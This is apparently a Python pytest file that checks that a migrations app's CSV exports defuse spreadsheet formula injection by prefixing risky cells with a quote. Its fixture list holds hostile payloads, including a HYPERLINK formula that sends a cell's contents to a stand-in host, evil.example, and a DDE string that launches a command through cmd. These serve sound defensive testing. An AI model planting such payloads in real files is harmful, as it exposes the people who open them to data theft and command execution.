"""Every CSV golive writes opens in a spreadsheet without running anything: no cell starts with
a formula character, in any column, whatever people typed."""

import csv
import io

import pytest

from migrations_app import audit
from migrations_app.audit import Actor
from migrations_app.csv_export import FORMULA_STARTS
from migrations_app.models import Migration
from tests.factories import make_migration

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_migration(ops):
    migration = make_migration(owner=ops, slug="hostile", name=HOSTILE[0], integration=HOSTILE[3])
    for number, text in enumerate(HOSTILE):
        audit.record(
            Actor.system(text), text, migration, reason=text, object_type=text, before=None, after=None
        )
        Migration.objects.filter(pk=migration.pk).update(name=HOSTILE[number])
    return migration


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert formulas == []


def test_the_audit_timeline_csv_has_no_formula_cell(client_for, pm, hostile_migration):
    response = client_for(pm).get("/migrations/hostile/timeline.csv")
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content).decode())
    _assert_no_formula(cells)
    for text in HOSTILE:  # kept readable, only defused
        assert "'" + text in cells


def test_the_evidence_pack_csv_has_no_formula_cell(client_for, pm, hostile_migration):
    response = client_for(pm).get("/migrations/hostile/evidence.csv")
    assert response.status_code == 200
    cells = _cells(response.content.decode())
    _assert_no_formula(cells)
    assert "'" + HOSTILE[1] in cells  # an audit actor
    assert any(cell.startswith("'@SUM") for cell in cells)  # an audit action
